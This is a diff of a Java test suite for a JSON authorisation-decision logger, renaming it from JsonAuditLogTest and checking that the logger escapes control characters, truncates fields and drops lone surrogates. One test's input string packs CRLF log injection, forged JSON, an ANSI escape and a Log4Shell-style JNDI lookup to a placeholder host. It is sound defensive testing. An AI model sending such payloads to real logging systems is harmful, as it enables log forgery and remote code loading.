@@ -2,11 +2,16 @@ package dev.postern.common.boot;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import dev.postern.common.audit.AuditEvent;
 import dev.postern.common.auth.AuthError;
+import dev.postern.common.auth.Call;
+import dev.postern.common.auth.ClientAddress;
+import dev.postern.common.auth.ClientPrincipal;
+import dev.postern.common.auth.Decision;
+import dev.postern.common.auth.Proof;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Optional;
+import java.util.Set;
 import java.util.logging.Handler;
 import java.util.logging.LogRecord;
 import net.jqwik.api.ForAll;
@@ -21,9 +26,10 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
-class JsonAuditLogTest {
-  private static final AuditEvent.Call CALL =
-      new AuditEvent.Call("REST", "ProfileResource.get", "trace-1", "192.0.2.1");
+class JsonDecisionLogTest {
+  private static final Call CALL =
+      new Call(
+          "REST", "ProfileResource.get", "trace-1", ClientAddress.parse("192.0.2.1").orElseThrow());
 
   private final Logger logger = Logger.getLogger("postern.audit");
   private final List<ExtLogRecord> lines = new ArrayList<>();
@@ -55,8 +61,7 @@ class JsonAuditLogTest {
 
   @Test
   void writesOneLineWithEveryField() {
-    new JsonAuditLog()
-        .record(AuditEvent.allowed(CALL, "jti j-1", "client-a", Optional.of("customer-1")));
+    new JsonDecisionLog().record(CALL, allowed("client-a", "customer-1", "jti j-1"));
 
     assertThat(lines).hasSize(1);
     assertThat(lines.get(0).getMessage()).isEqualTo("decision");
@@ -75,7 +80,8 @@ class JsonAuditLogTest {
 
   @Test
   void leavesOutWhatIsNotKnown() {
-    new JsonAuditLog().record(AuditEvent.refused(CALL, AuthError.BEARER_INVALID, "bad signature"));
+    new JsonDecisionLog()
+        .record(CALL, new Decision.Refused(AuthError.BEARER_INVALID, "bad signature"));
 
     assertThat(lines.get(0).getMdcCopy())
         .containsEntry("outcome", "REFUSED")
@@ -87,19 +93,24 @@ class JsonAuditLogTest {
   @Test
   void whatACallerWroteStaysOneHarmlessLine() {
     String evil = "x\r\n{\"outcome\":\"ALLOWED\"}\u001b[2J${jndi:ldap://evil.test/a}%s{0}";
-    AuditEvent.Call call = new AuditEvent.Call(evil, evil, evil, evil);
+    Call call = new Call(evil, evil, evil, ClientAddress.UNKNOWN);
 
-    new JsonAuditLog().record(AuditEvent.allowed(call, evil, evil, Optional.of(evil)));
+    new JsonDecisionLog().record(call, allowed(evil, evil, evil));
 
     assertThat(lines).hasSize(1);
     assertThat(lines.get(0).getFormattedMessage()).isEqualTo("decision");
     assertThat(lines.get(0).getMdcCopy())
         .containsEntry("outcome", "ALLOWED")
         .containsEntry("reason", "allowed");
-    for (String field : List.of("transport", "route", "trace_id", "peer", "detail", "client")) {
+    for (String field : List.of("transport", "route", "trace_id", "detail", "client")) {
       assertThat(lines.get(0).getMdcCopy())
           .containsEntry(field, "x??{\"outcome\":\"ALLOWED\"}?[2J${jndi:ldap://evil.test/a}%s{0}");
     }
+  }
+
+  private static Decision allowed(String clientId, String customerId, String detail) {
+    return new Decision.Allowed(
+        new ClientPrincipal(clientId, Set.of()), Optional.of(customerId), detail, Proof.NOTHING);
   }
 
   @ParameterizedTest
@@ -117,33 +128,33 @@ class JsonAuditLogTest {
         "caf\u00e9 \uD83D\uDE00,caf\u00e9 \uD83D\uDE00"
       })
   void printableKeepsTextAndReplacesControls(String written, String printed) {
-    assertThat(JsonAuditLog.printable(written)).isEqualTo(printed);
+    assertThat(JsonDecisionLog.printable(written)).isEqualTo(printed);
   }
 
   @ParameterizedTest
   @ValueSource(strings = {"\uD800", "\uDC00", "\uDC00\uD800x"})
   void printableReplacesLoneSurrogates(String lone) {
-    assertThat(JsonAuditLog.printable(lone)).doesNotContain(lone).contains("?");
+    assertThat(JsonDecisionLog.printable(lone)).doesNotContain(lone).contains("?");
   }
 
   @Test
   void printableCutsAt256Characters() {
-    assertThat(JsonAuditLog.printable("x".repeat(256))).hasSize(256);
-    assertThat(JsonAuditLog.printable("x".repeat(257))).hasSize(256);
-    assertThat(JsonAuditLog.printable("\n".repeat(1_000_000))).isEqualTo("?".repeat(256));
+    assertThat(JsonDecisionLog.printable("x".repeat(256))).hasSize(256);
+    assertThat(JsonDecisionLog.printable("x".repeat(257))).hasSize(256);
+    assertThat(JsonDecisionLog.printable("\n".repeat(1_000_000))).isEqualTo("?".repeat(256));
   }
 
   @Test
   void printableCutsNoCharacterInHalf() {
     String faces = "\uD83D\uDE00".repeat(300);
 
-    assertThat(JsonAuditLog.printable(faces)).isEqualTo("\uD83D\uDE00".repeat(256));
+    assertThat(JsonDecisionLog.printable(faces)).isEqualTo("\uD83D\uDE00".repeat(256));
   }
 
   @Property
   void printableNeverHoldsAControlCharacter(@ForAll String anything) {
-    assertThat(JsonAuditLog.printable(anything).codePoints())
-        .hasSizeLessThanOrEqualTo(JsonAuditLog.MAX_FIELD_CHARS)
+    assertThat(JsonDecisionLog.printable(anything).codePoints())
+        .hasSizeLessThanOrEqualTo(JsonDecisionLog.MAX_FIELD_CHARS)
         .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT);
   }
 }
